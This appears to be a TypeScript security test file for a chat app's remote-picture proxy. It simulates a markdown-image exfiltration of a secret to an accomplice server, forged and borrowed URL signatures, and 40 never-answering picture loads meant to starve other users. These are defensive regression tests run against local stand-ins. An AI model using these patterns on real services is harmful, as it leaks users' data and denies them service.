import { setMaxListeners } from 'node:events';
import { GetRemotePicture, SignRemotePicture } from '@parley/contract';
import { startPictureServer } from '../../../apps/server/src/testing/start-picture-server.ts';
import type { ChatRoom } from '../../support/chat-room.ts';
import { createHttpClient } from '../../support/http-client.ts';
import type { Accomplice, Attack } from '../attack.ts';
import { type Answer, isAnswered, isInWords, notRefused, send } from '../send.ts';

const SLOW = 40;

/** Answers `/count` with how often other paths were asked for, and never answers `/slow`. */
async function startPictures(): Promise<Accomplice> {
  const pictures = await startPictureServer({
    '/slow': () => undefined,
    '/count': (_request, response) =>
      response.end(String(pictures.requests.filter(({ url }) => url !== '/count').length)),
  });
  return {
    url: pictures.url,
    settings: { ALLOWED_PRIVATE_HOSTS: pictures.host },
    [Symbol.asyncDispose]: () => pictures[Symbol.asyncDispose](),
  };
}

/** What an answer makes a browser ask for by itself: `![x](/api/picture/remote?url=…)`, with a secret in the address. */
export const exfiltration: Attack = {
  name: 'picture addresses that carry what a reader sees',
  startAccomplice: startPictures,
  async strike({ address, attacker, other, accomplice }) {
    const url = `${accomplice}/leak.png?secret=what-the-reader-sees`;
    const { signed_url } = await createHttpClient(address, attacker.cookie).call(SignRemotePicture, { url });
    const unsigned = `${GetRemotePicture.path}?url=${encodeURIComponent(url)}`;
    // Without a signature, with an invented one, and with one that was issued to somebody else.
    const paths = [unsigned, `${unsigned}&expires=9999999999&signature=${'0'.repeat(43)}`, signed_url];
    const answers = await Promise.all(
      paths.map((path) => send(address, { method: 'GET', path, cookie: other.cookie })),
    );
    const leaked = Number(await (await fetch(`${accomplice}/count`)).text());
    return { answers, problems: [...notRefused(answers), ...(leaked > 0 ? ['the secret has left the server'] : [])] };
  },
};

/** Asks for a picture as a reader does who has clicked. */
async function loadPicture(address: string, { cookie }: ChatRoom, url: string, signal?: AbortSignal): Promise<Answer> {
  const { signed_url } = await createHttpClient(address, cookie).call(SignRemotePicture, { url });
  return send(address, { method: 'GET', path: signed_url, cookie, ...(signal && { signal }) });
}

/** Pictures that never come, more than a user may wait for, while another user loads some of a quick server. */
export const slowPictures: Attack = {
  name: 'remote pictures that never come',
  startAccomplice: startPictures,
  async strike({ address, attacker, other, accomplice }, { times }) {
    const leaving = new AbortController();
    setMaxListeners(SLOW, leaving.signal);
    const answers: Answer[] = [];
    const slow = Array.from({ length: SLOW }, async () => {
      const answer = await loadPicture(address, attacker, `${accomplice}/slow`, leaving.signal);
      if (!leaving.signal.aborted) answers.push(answer);
    });
    const loaded: Answer[] = [];
    for (let time = 0; time < 5 * times; time += 1)
      loaded.push(await loadPicture(address, other, `${accomplice}/quick-${time}.png`));
    leaving.abort();
    await Promise.all(slow);
    return {
      answers,
      problems: [
        ...loaded.filter((answer) => !isAnswered(answer)).map(({ status }) => `another user's picture: ${status}`),
        ...answers.filter((answer) => !isInWords(answer)).map(({ status, text }) => `answered ${status}: ${text}`),
      ],
    };
  },
};
